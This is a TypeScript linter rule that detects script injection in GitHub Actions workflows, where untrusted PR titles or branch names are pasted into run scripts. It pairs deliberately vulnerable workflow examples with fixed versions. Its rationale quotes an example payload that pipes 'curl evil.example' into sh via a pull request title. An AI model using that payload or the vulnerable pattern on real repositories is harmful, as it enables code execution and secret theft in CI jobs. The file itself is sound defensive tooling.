import {
  defineRule,
  expressionsIn,
  passByEnvironment,
  satisfied,
  scriptsOf,
  taintsOf,
  violated,
  workflow,
  type EmbeddedExpression,
  type Judgement,
  type Severity,
  type Taint,
  type WorkflowStep,
} from "../../src/rule/index.ts";

export default defineRule({
  id: "gha/script-injection",
  scope: "job",
  title: "Text that others write is pasted into a script",
  severity: "error",
  securitySeverity: 9.1,
  confidence: "high",
  profile: "recommended",
  rationale:
    'GitHub fills in `${{ … }}` before any shell sees the script, so that the text becomes part of the program. A pull request with the title `"; curl evil.example | sh; "` runs that command in the job, with its token and its secrets; quotes around the expression do not help.',
  remediation:
    'Hand the text over as an environment variable: `env: TITLE: ${{ github.event.pull_request.title }}`, and use `"$TITLE"` in the script, which the shell does not read as code. In `actions/github-script` use `process.env.TITLE` or `context.payload`.',
  references: [
    "https://docs.github.com/en/actions/concepts/security/script-injections",
    "https://docs.github.com/en/actions/reference/security/secure-use",
    "https://cwe.mitre.org/data/definitions/78.html",
  ],
  cwe: [94, 78],
  examples: [
    {
      title: "a title in a shell script",
      bad: workflow`
        on: pull_request
        jobs:
          title:
            runs-on: ubuntu-latest
            steps:
              - name: Check the title
                run: |
                  echo "Title: \${{ github.event.pull_request.title }}"
      `,
      flags: ["${{ github.event.pull_request.title }}"],
      good: workflow`
        on: pull_request
        jobs:
          title:
            runs-on: ubuntu-latest
            steps:
              - name: Check the title
                env:
                  PULL_REQUEST_TITLE: \${{ github.event.pull_request.title }}
                run: |
                  echo "Title: \${PULL_REQUEST_TITLE}"
      `,
    },
    {
      title: "a branch's name on its way through an output and a variable",
      bad: workflow`
        on: pull_request_target
        jobs:
          names:
            runs-on: ubuntu-latest
            outputs:
              branch: \${{ steps.find.outputs.branch }}
            steps:
              - id: find
                run: echo "branch=$BRANCH" >> "$GITHUB_OUTPUT"
                env:
                  BRANCH: \${{ github.head_ref }}
          label:
            needs: names
            runs-on: ubuntu-latest
            steps:
              - uses: actions/github-script@v7
                with:
                  script: console.log("\${{ needs.names.outputs.branch }}")
      `,
      flags: ["${{ needs.names.outputs.branch }}"],
      good: workflow`
        on: pull_request_target
        jobs:
          names:
            runs-on: ubuntu-latest
            outputs:
              branch: \${{ steps.find.outputs.branch }}
            steps:
              - id: find
                run: echo "branch=$BRANCH" >> "$GITHUB_OUTPUT"
                env:
                  BRANCH: \${{ github.head_ref }}
          label:
            needs: names
            runs-on: ubuntu-latest
            steps:
              - uses: actions/github-script@v7
                env:
                  BRANCH: \${{ needs.names.outputs.branch }}
                with:
                  script: console.log(process.env.BRANCH)
      `,
    },
  ],
  *check(job) {
    for (const step of job.steps) {
      for (const { value } of scriptsOf(step)) yield* judge(step, value);
    }
  },
});

function* judge(step: WorkflowStep, value: ReturnType<typeof scriptsOf>[number]["value"]): Iterable<Judgement> {
  let isClean = true;
  for (const part of expressionsIn(value)) {
    const [worst] =
      part.expression === undefined
        ? []
        : [...taintsOf(part.expression, { job: step.job, step })].sort((a, b) => RANKS.indexOf(a.who) - RANKS.indexOf(b.who));
    if (worst === undefined) continue;
    // A second fix would write the step's variables a second time; it comes once the first is made.
    yield report(step, part, worst, isClean);
    isClean = false;
  }
  if (isClean) yield satisfied(value.span);
}

const RANKS: readonly Taint["who"][] = ["outsider", "starter", "branch", "tag"];
const WEIGHT: Readonly<Record<Taint["who"], { readonly severity?: Severity; readonly securitySeverity?: number; readonly who: string }>> = {
  outsider: { who: "Anybody" },
  starter: { severity: "warning", securitySeverity: 6, who: "Whoever may start this workflow" },
  branch: { severity: "warning", securitySeverity: 5.5, who: "Whoever may push a branch" },
  tag: { severity: "note", securitySeverity: 3.5, who: "Whoever may push a tag" },
};

function report(step: WorkflowStep, part: EmbeddedExpression, { who, source, at, through }: Taint, isFirst: boolean): Judgement {
  const { who: person, ...weight } = WEIGHT[who];
  const fix = isFirst ? passByEnvironment(step, part) : undefined;
  return violated({
    at: part.span,
    ...weight,
    message: `${person} can put commands into this script by way of "${source}", which is pasted in before the script is read.`,
    related: through.length > 0 ? [{ at, note: "coming in here" }] : [],
    ...(fix === undefined ? {} : { fix }),
  });
}
